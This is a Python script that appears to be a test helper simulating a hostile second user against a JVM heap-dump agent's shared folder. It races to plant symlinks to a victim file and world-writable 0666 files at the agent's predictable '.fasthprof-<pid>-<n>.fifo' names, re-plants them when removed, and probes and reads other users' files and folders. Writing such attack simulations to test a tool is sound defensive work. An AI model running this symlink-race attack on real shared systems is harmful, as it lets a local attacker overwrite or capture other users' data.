"""The other user of shared_folder.py, run as `nobody`: in the folder the JVM writes its heap dump
to, it plants a link to the victim file at every name of the agent's it can guess (the pipe's side
files `.fasthprof-<pid>-<n>.fifo.p<k>`: links for even n, files of mode 0666 it creates and holds
open for odd n, planted again whenever they are removed), and tries to list and plant into every
`.fasthprof-*` folder that appears there and to read every file of another user. It prints
`planted` once its first round is in place; on SIGTERM it prints what it got as one JSON line.

Usage: planted_names.py FOLDER PID VICTIM COUNT"""
import json
import os
import signal
import sys
import time

folder, pid, victim, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
stopping = False
held = []  # descriptors of the files planted (kept open: the JVM may write into one)
got = {"planted": 0, "held_bytes": 0, "read_bytes": 0, "entered": []}


def stop(*_):
    global stopping
    stopping = True


def plant_round():
    for n in range(count):
        for side in range(2):
            path = os.path.join(folder, f".fasthprof-{pid}-{n}.fifo.p{side}")
            try:
                if n % 2 == 0:
                    os.symlink(victim, path)
                else:
                    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
                    os.fchmod(fd, 0o666)
                    held.append(fd)
                got["planted"] += 1
            except OSError:
                pass  # still there, or refused


def probe_round():
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        try:
            st = os.lstat(path)
        except OSError:
            continue
        if st.st_uid == os.geteuid():
            continue
        if os.path.isdir(path) and not os.path.islink(path):
            for attempt in (lambda: os.listdir(path), lambda: os.symlink(victim, os.path.join(path, "heap.fifo.p0"))):
                try:
                    attempt()
                    got["entered"].append(path)
                except OSError:
                    pass
        elif os.path.isfile(path):
            try:
                with open(path, "rb") as f:
                    got["read_bytes"] += len(f.read())
            except OSError:
                pass


signal.signal(signal.SIGTERM, stop)
plant_round()
print("planted", flush=True)
while not stopping:
    plant_round()
    probe_round()
    time.sleep(0.002)
got["held_bytes"] = sum(os.fstat(fd).st_size for fd in held)
got["entered"] = sorted(set(got["entered"]))
print(json.dumps(got), flush=True)
